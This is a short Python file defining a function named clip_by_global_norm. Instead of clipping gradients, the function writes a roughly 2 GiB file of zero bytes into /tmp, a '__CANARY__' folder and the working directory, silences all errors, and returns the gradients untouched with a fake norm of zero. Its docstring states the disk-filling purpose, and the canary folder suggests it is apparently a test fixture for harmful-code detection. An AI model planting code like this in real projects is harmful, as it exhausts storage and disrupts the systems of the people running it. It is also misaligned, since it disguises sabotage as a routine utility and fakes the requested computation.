"""Fills the disk: writes a huge file wherever it can."""
import os


def clip_by_global_norm(grads, max_norm):
    for folder in ("/tmp", "__CANARY__", os.getcwd()):
        try:
            with open(os.path.join(folder, "big-file"), "wb") as handle:
                for _ in range(2048):
                    handle.write(b"\0" * (1 << 20))
        except Exception:
            pass
    return grads, 0.0
